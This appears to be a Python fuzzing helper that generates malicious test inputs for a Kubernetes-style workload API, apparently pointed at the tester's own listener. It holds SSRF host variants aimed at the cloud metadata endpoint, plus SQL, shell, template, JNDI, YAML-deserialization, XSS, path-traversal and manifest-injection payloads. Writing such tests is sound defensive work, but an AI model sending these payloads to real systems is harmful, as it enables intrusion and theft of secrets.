"""Hosts that nobody should be led to, and texts that mean something to whoever reads them carelessly."""

import itertools
import string
from collections.abc import Iterator

METADATA = "169.254.169.254"  # where clouds tell virtual machines their secrets

SCHEMES = ("http", "https", "file", "gopher", "ftp", "dict", "ldap", "jar", "s3", "gs", "az", "abfs", "wasbs")
FORMS_OF_A_HOST = (
    *("127.0.0.1", "localhost", "0.0.0.0", "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]"),  # noqa: S104  # a name
    *("2130706433", "0x7f000001", "017700000001", "127.1", "0177.0.0.1", "0x7f.1", "127.0.0.1.nip.example"),
    *(
        METADATA,
        "2852039166",
        "0xa9fea9fe",
        "[::ffff:169.254.169.254]",
        "metadata.internal",
        "rebind.example",
    ),
    *(
        "localtest.example",
        "LOCALHOST",
        "ⓛocalhost",
        "localhost.",
        "127。0。0。1",
        "user@localhost",
        "x:y@127.0.0.1",
    ),
    *(
        "good.example@127.0.0.1",
        "127.0.0.1#good.example",
        "127.0.0.1?good.example",
        "good.example:80@localhost",
    ),
    *("localhost%00.example", "localhost%0d%0aHost:x", "localhost\r\nHost: x", "local host", "localhost\\@x"),
)


def addresses(port: int) -> Iterator[tuple[str, str]]:
    """Yield ``(field, value)`` that would lead to a host, most of them to our own listener; over 200."""
    for scheme, host in itertools.product(SCHEMES, FORMS_OF_A_HOST[:9]):
        yield "workload.storage.volumes.0.source.uri", f"{scheme}://{host}:{port}/x"
    for host in FORMS_OF_A_HOST:
        yield "workload.storage.volumes.0.source.uri", f"s3://{host}:{port}/x"
        yield "workload.storage.volumes.0.source.uri", f"https://{host}/latest/meta-data/"
        yield "workload.image", f"{host}:{port}/image:1"
        yield "workload.ports.0.domain", host


# Each is tried in every field that holds a text.
_PIECES = (
    *("'", '"', "`", "\\", "/", "%", "$", "&", "|", ";", "<", ">", "*", "?", "!", "#", "~", "{}", "[]", "()"),
    *(
        "' OR 1=1--",
        "'; DROP TABLE intents;--",
        '" OR ""="',
        "1) UNION SELECT secret FROM tokens--",
        "\\'; --",
    ),
    *(
        "$(id)",
        "`id`",
        "; id",
        "| id",
        "&& id",
        "\n id",
        "${IFS}id",
        "%0aid",
        "$((1+1))",
        "!!",
        "~root",
        "{a,b}",
    ),
    *(
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "{%raw%}",
        "{{config}}",
        "$" + "{jndi:ldap://x.example/a}",
    ),
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)", '"><svg onload=1>'),
    *(
        "../../etc/passwd",
        "..\\..\\x",
        "/etc/passwd",
        "file:///etc/passwd",
        "%2e%2e%2f",
        "....//",
        "/proc/self/environ",
    ),
    *(
        "!!python/object/apply:os.system ['id']",
        "&a [*a]",
        "- x: y",
        "key: value",
        "--- #",
        "%YAML 1.2",
        "? x",
        "<<: *x",
    ),
    *("=1+1", "@SUM(1)", "+1", "-1+1", "\t=1", "%s%n%x", "%(name)s", "{0.__class__}", "%d" * 20),
    *(
        "null",
        "true",
        "undefined",
        "NaN",
        "None",
        "0",
        "-1",
        "1e999",
        "[]",
        "{}",
        '{"a":1}',
        "()",
        "''",
        '""',
    ),
    *(
        "\u202ex",
        "x\u200b",
        "\ufeffx",
        "\u2028",
        "\u2029",
        "\u0085",
        "\u00a0x",
        "\u0130",
        "ﬁ",
        "ß",
        "\U0001f600",
        "é",
    ),
    *("\x1b[31m", "\x07", "\x7f", "\x08x", "\r\n", "\r", "\n", "\t", "\v", "\f", "\x01"),
    *(
        " x",
        "x ",
        " ",
        "",
        ".",
        "..",
        "-",
        "--help",
        "-rf",
        "_",
        "CON",
        "a\\",
        "a/",
        "/a",
        "a//b",
        "a:",
        ":a",
        "a@",
        "@a",
    ),
    *(
        "x-kubernetes: {}",
        "metadata.labels",
        "kubernetes.io/x",
        "a=b,c=d",
        "in (a,b)",
        "!a",
        "(*)(uid=*)",
        "*)(|(a=*",
    ),
    *(
        "x\nspec:\n  hostNetwork: true",
        'x","hostPID":true,"y":"',
        "x'\n- name: y",
        "a\\nb",
        "\\u0000",
        "\\x00",
        "%00",
    ),
)


def payloads(count: int) -> list[str]:
    """Return so many texts: each piece alone, inside of a word, and joined with others."""
    alone = list(dict.fromkeys(_PIECES))
    inside = [f"a{piece}b" for piece in alone]
    joined = [f"{a}{b}" for n in (7, 31) for a, b in zip(alone, alone[n:] + alone[:n], strict=True)]
    long = [letter * size for letter in string.ascii_letters[:5] + "ü'\\" for size in (64, 254, 300, 5000)]
    found = list(dict.fromkeys([*alone, *inside, *long, *joined]))
    return found[:: max(1, len(found) // count)][:count]
